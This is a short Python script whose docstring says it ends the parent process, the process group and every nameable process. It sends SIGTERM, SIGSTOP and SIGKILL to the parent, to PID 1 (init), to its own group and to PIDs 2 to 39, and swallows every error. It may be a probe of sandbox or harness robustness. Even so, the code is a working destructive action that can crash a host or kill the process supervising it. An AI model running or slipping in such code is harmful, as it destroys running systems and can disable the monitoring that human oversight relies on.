"""End the parent process, the whole group, and every process that can be named, gently and not."""

import os
import signal

for process in (os.getppid(), 1, -os.getpgrp(), *range(2, 40)):
    if process != os.getpid():
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                pass
